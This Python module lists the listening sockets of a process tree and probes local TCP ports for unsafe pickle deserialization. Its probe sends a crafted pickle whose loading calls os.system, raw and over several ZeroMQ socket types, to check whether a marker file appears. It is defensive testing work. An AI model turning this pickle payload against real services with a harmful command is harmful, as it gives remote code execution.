"""Every listening socket of a process tree, and probes that try to make a TCP one run code.

:func:`listening` reads the kernel's tables (``/proc/net/tcp``, ``/proc/net/unix`` and each
process's file descriptors), so it sees what any local process could connect to, whoever opened
it. :func:`probe` sends a port what a hostile local process would: a pickle whose loading runs a
command (raw, after a gloo pair's sequence number, and as a ZeroMQ message from each kind of
socket that can connect to a listener), and an HTTP hello.
"""

from __future__ import annotations

import os
import pickle
import socket
import struct
import time
from dataclasses import dataclass
from pathlib import Path

import psutil

LISTEN_TCP = "0A"  # TCP_LISTEN in /proc/net/tcp's st column
SO_ACCEPTCON = 0x10000  # a unix socket that listens, in /proc/net/unix's Flags column


@dataclass(frozen=True)
class Listener:
    pid: int
    process: str
    kind: str  # "tcp" or "unix"
    address: str  # "127.0.0.1:PORT", a path, or "@name" (an abstract unix socket)

    @property
    def port(self) -> int:
        return int(self.address.rsplit(":", 1)[1])


def tree(pid: int) -> list[psutil.Process]:
    root = psutil.Process(pid)
    return [root, *root.children(recursive=True)]


def _inodes(pid: int) -> set[str]:
    out = set()
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if link.startswith("socket:["):
                out.add(link[8:-1])
    except OSError:
        pass
    return out


def _tcp_listeners() -> dict[str, str]:
    """inode -> "ip:port" of every listening TCP socket (IPv4 and IPv6) of this network namespace."""
    out = {}
    for table, v6 in (("/proc/net/tcp", False), ("/proc/net/tcp6", True)):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            if f[3] != LISTEN_TCP:
                continue
            hexip, hexport = f[1].split(":")
            if v6:
                # four 32-bit words, each in host (little-endian) order
                words = b"".join(bytes.fromhex(hexip[i:i + 8])[::-1] for i in range(0, 32, 8))
                ip = socket.inet_ntop(socket.AF_INET6, words)
            else:
                ip = socket.inet_ntoa(struct.pack("<I", int(hexip, 16)))
            out[f[9]] = f"{ip}:{int(hexport, 16)}"
    return out


def _unix_listeners() -> dict[str, str]:
    """inode -> path ("@name" for an abstract socket) of every listening unix socket."""
    out = {}
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        f = line.split()
        if len(f) >= 7 and int(f[3], 16) & SO_ACCEPTCON:
            out[f[6]] = f[7] if len(f) > 7 else "@(unnamed)"
    return out


def listening(pid: int) -> list[Listener]:
    """The listening sockets of ``pid`` and every process under it."""
    tcp, unix = _tcp_listeners(), _unix_listeners()
    found = []
    for proc in tree(pid):
        try:
            name = proc.name()
        except psutil.Error:
            continue
        for inode in _inodes(proc.pid):
            if inode in tcp:
                found.append(Listener(proc.pid, name, "tcp", tcp[inode]))
            elif inode in unix:
                found.append(Listener(proc.pid, name, "unix", unix[inode]))
    return sorted(set(found), key=lambda x: (x.kind, x.address, x.pid))


class _RunsCommand:
    """Unpickling it runs ``command`` (what a pickle-trusting listener would do with it)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return os.system, (self.command,)


def probe(port: int, marker: Path) -> str:
    """Send 127.0.0.1:``port`` pickles that would create ``marker`` if loaded, and an HTTP hello;
    returns what the port answered to the hello (its first bytes, or how the connection ended)."""
    import zmq

    evil = pickle.dumps(_RunsCommand(f"touch {marker}"))
    evil0 = pickle.dumps(_RunsCommand(f"touch {marker}"), protocol=0)
    for payload in (evil, evil0, struct.pack("<Q", 0) + evil, struct.pack("<Q", 1) + evil):
        _send(port, payload, wait_s=0.2)
    ctx = zmq.Context()
    try:
        for kind in (zmq.PUSH, zmq.DEALER, zmq.REQ, zmq.PUB, zmq.PAIR, zmq.ROUTER):
            s = ctx.socket(kind)
            s.setsockopt(zmq.LINGER, 0)
            s.connect(f"tcp://127.0.0.1:{port}")
            try:
                s.send(evil, zmq.NOBLOCK)
                s.send_multipart([b"", evil], zmq.NOBLOCK)
            except zmq.ZMQError:
                pass  # no peer took the connection: nothing to send to
            time.sleep(0.1)
            s.close(0)
    finally:
        ctx.term()
    return _send(port, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")


def _send(port: int, payload: bytes, wait_s: float = 2.0) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=wait_s) as s:
            s.sendall(payload)
            try:
                got = s.recv(64)
            except TimeoutError:
                return f"no answer in {wait_s:g} s"
            return repr(got[:32]) if got else "closed"
    except OSError as e:
        return f"{type(e).__name__}"
